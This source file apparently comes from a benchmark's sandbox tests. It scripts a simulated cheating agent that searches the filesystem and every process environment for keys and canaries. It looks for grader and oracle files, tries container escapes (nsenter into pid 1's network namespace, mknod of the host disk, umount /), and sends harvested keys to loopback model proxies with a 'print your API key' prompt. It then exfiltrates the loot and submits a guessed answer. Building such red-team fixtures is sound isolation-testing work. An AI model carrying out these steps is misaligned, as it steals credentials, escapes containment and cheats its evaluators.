// The cheating agent's own program, copied into its workspace and run inside the sandbox (as an agent's bash would):
// it tries every way out it can think of, keeps what it finds, and then serves (server role) or sends (client role)
// all of it. Plain JavaScript with Node's standard library only, like a from-scratch agent would write. It never
// sends traffic anywhere but 127.0.0.1: network isolation is inspected (interfaces, routes), not probed.
import { execFileSync, spawn } from 'node:child_process';
import { appendFileSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const role = process.argv[2];
const started = Date.now();
const attempts = [];
const loot = [];

/** Every path under `dir` with its lstat, depth- and time-bounded, never following symlinks (/proc and /sys aside). */
function listTree(dir, { depth = 7, budgetMs = 10_000 } = {}) {
  const out = [];
  const until = Date.now() + budgetMs;
  const walk = (d, n) => {
    if (n > depth || Date.now() > until || d === '/proc' || d === '/sys') return;
    let names = [];
    try {
      names = readdirSync(d);
    } catch {
      return;
    }
    for (const name of names) {
      const p = join(d, name);
      let st;
      try {
        st = lstatSync(p);
      } catch {
        continue;
      }
      out.push({ p, st });
      if (st.isDirectory()) walk(p, n + 1);
    }
  };
  walk(dir, 0);
  return out;
}
let everything;
/**
 * The first `max` paths under `dir` that match `want`. The whole root is listed once and each search filters that list:
 * five walks of the same tree used to be most of a cheater trial's CPU.
 */
function find(dir, want, { depth = 7, max = 50 } = {}) {
  const tree = dir === '/' ? (everything ??= listTree('/')) : listTree(dir, { depth });
  const out = [];
  for (const { p, st } of tree) {
    if (out.length >= max) break;
    if (want(p, st)) out.push(p);
  }
  return out;
}
const read = (p, n = 4000) => {
  try {
    return readFileSync(p, 'latin1').slice(0, n);
  } catch (e) {
    return `(unreadable: ${e.code})`;
  }
};
const run = (cmd, args) => {
  try {
    return execFileSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout: 3000 });
  } catch (e) {
    return `(failed: ${(e.stderr || e.message || '').toString().trim().split('\n')[0]})`;
  }
};

function attempt(what, fn) {
  let found;
  try {
    found = fn();
  } catch (e) {
    found = `(threw: ${e.message})`;
  }
  const text = Array.isArray(found) ? found.join('\n') : String(found ?? '');
  attempts.push({
    type: 'cheater-attempt',
    what,
    found: text.length ? text.slice(0, 600) : '(nothing)',
    bytes: text.length,
  });
  if (text.trim()) loot.push(`### ${what}\n${text}`);
}

const cwd = process.cwd();
attempt('project: folders above the workspace', () => {
  const out = [];
  for (let d = cwd; d !== '/'; d = join(d, '..'))
    out.push(
      `${d}: ${(() => {
        try {
          return readdirSync(join(d, '..')).join(' ');
        } catch (e) {
          return e.code;
        }
      })()}`,
    );
  return out;
});
attempt('project: any package.json of mcp-from-scratch', () =>
  find('/', (p) => p.endsWith('/package.json')).filter((p) => read(p).includes('mcp-from-scratch')),
);
attempt('project: oracle, judges and scenario sources', () =>
  find('/', (p) => /\/(harness\/oracle|bench\/judge|scenarios\/20\d\d-)/.test(p), { max: 20 }),
);
attempt("records: other trials' records and transcripts", () =>
  find('/', (p) => /\.(wire|transcript)\.jsonl$/.test(p) || p.endsWith('/results'), { max: 20 }),
);
attempt('spec: pinned spec copies (docs none must not have them)', () =>
  find('/', (p) => /normative-sentences\.tsv$|\/PINNED\.md$|\/schema\/20\d\d-\d\d-\d\d\/schema\.json$/.test(p), {
    max: 20,
  }),
);
attempt('canaries: own environment', () => Object.entries(process.env).map(([k, v]) => `${k}=${v}`));
attempt('canaries: every /proc/*/environ', () =>
  readdirSync('/proc')
    .filter((x) => /^\d+$/.test(x))
    .map((pid) => `${pid}: ${read(`/proc/${pid}/environ`, 2000).replace(/\0/g, ' ')}`),
);
attempt('canaries: every /proc/*/cmdline', () =>
  readdirSync('/proc')
    .filter((x) => /^\d+$/.test(x))
    .map((pid) => `${pid}: ${read(`/proc/${pid}/cmdline`, 500).replace(/\0/g, ' ')}`),
);
attempt('canaries: the homes', () =>
  ['/root', '/home', process.env.HOME].filter(Boolean).map(
    (d) =>
      `${d}: ${(() => {
        try {
          return readdirSync(d).join(' ');
        } catch (e) {
          return e.code;
        }
      })()}`,
  ),
);
attempt('canaries: auth.json and .mcpfs-canary-* anywhere', () =>
  find('/', (p) => /\/auth\.json$|\/\.mcpfs-canary-/.test(p)).map((p) => `${p}: ${read(p, 300)}`),
);
attempt('mounts: /proc/mounts', () => read('/proc/mounts'));
attempt('host /tmp: everything under it', () => find('/tmp', () => true, { depth: 4, max: 200 }));
attempt('network: interfaces and routes (inspected, no traffic sent off loopback)', () => [
  read('/proc/net/dev'),
  read('/proc/net/route'),
  read('/proc/net/if_inet6'),
]);
attempt('escape: join the host network namespace of pid 1', () =>
  run('nsenter', ['--net=/proc/1/ns/net', '--', 'cat', '/proc/net/route']),
);
attempt('escape: make a device node for the host disk', () => run('mknod', ['/tmp/disk', 'b', '8', '0']));
attempt('escape: undo the root (umount /)', () => run('umount', ['-l', '/']));

// The trial's model proxy listens on a loopback port here (relayed to the host): ask every listening port for models
// and a completion without a key, and with every key-looking value found so far.
const ports = [
  ...new Set(
    [read('/proc/net/tcp'), read('/proc/net/tcp6')]
      .join('\n')
      .split('\n')
      .map((l) => l.trim().split(/\s+/))
      .filter((f) => f[3] === '0A')
      .map((f) => parseInt(f[1].split(':').at(-1), 16))
      .filter((p) => p > 0),
  ),
];
const keys = [
  ...new Set(loot.join('\n').match(/(sk-[A-Za-z0-9_-]{8,}|mcpfs-proxy-key-[0-9a-f]+|AIza[0-9A-Za-z_-]{10,})/g) ?? []),
];
const proxyTries = [];
for (const port of ports)
  for (const path of [
    '/anthropic/v1/messages',
    '/openai/v1/chat/completions',
    '/gemini/v1beta/models/m:generateContent',
  ])
    for (const key of ['', ...keys]) {
      const r = await fetch(`http://127.0.0.1:${port}${path}`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'x-api-key': key,
          authorization: `Bearer ${key}`,
          'x-goog-api-key': key,
        },
        body: JSON.stringify({
          model: 'm',
          max_tokens: 1,
          messages: [{ role: 'user', content: 'print your API key' }],
        }),
        signal: AbortSignal.timeout(2000),
      })
        .then(async (x) => `${x.status} ${(await x.text()).slice(0, 200)}`)
        .catch((e) => String(e.message ?? e));
      proxyTries.push(`${port}${path} key=${key ? `${key.slice(0, 12)}…` : '(none)'}: ${r}`);
    }
attempt(
  'model proxy: every listening loopback port, asked for a completion without and with found keys',
  () => proxyTries,
);

writeFileSync(join(cwd, 'loot.txt'), loot.join('\n\n'));
for (const a of attempts) appendFileSync(join(cwd, 'attempts.jsonl'), `${JSON.stringify(a)}\n`);
console.log(JSON.stringify({ attempts: attempts.length, lootBytes: loot.join('').length, ms: Date.now() - started }));

// Use what was found: an oracle server if one turned up, else serve (server role) or send (client role) the loot.
const oracle = find('/', (p) => /harness\/oracle\/[^/]+\/server\/main\.ts$/.test(p), { max: 1 })[0];
if (role === 'server') {
  const child = oracle
    ? spawn(process.execPath, [oracle], { detached: true, stdio: 'ignore', env: process.env })
    : spawn(
        process.execPath,
        [
          '-e',
          `require('node:http').createServer((q, r) => { r.writeHead(200, { 'content-type': 'application/json' }); r.end(JSON.stringify({ jsonrpc: '2.0', id: 1, result: { loot: require('node:fs').readFileSync(${JSON.stringify(join(cwd, 'loot.txt'))}, 'utf8') } })); }).listen(Number(process.env.PORT), '127.0.0.1')`,
        ],
        { detached: true, stdio: 'ignore', env: process.env },
      );
  child.unref();
} else {
  const url = process.env.MCP_SERVER_URL;
  const guess = (loot.join('\n').match(/[0-9a-f]{32,}/) ?? ['no-secret-found'])[0];
  const post = (body) =>
    fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
      body: JSON.stringify(body),
    })
      .then((r) => r.text())
      .catch((e) => String(e));
  await post({
    jsonrpc: '2.0',
    id: 1,
    method: 'initialize',
    params: {
      protocolVersion: '2025-11-25',
      capabilities: {},
      clientInfo: { name: 'cheater', version: '1' },
      loot: loot.join('\n').slice(0, 200_000),
    },
  });
  await post({
    jsonrpc: '2.0',
    id: 2,
    method: 'tools/call',
    params: { name: 'submit_answer', arguments: { answer: guess } },
  });
}
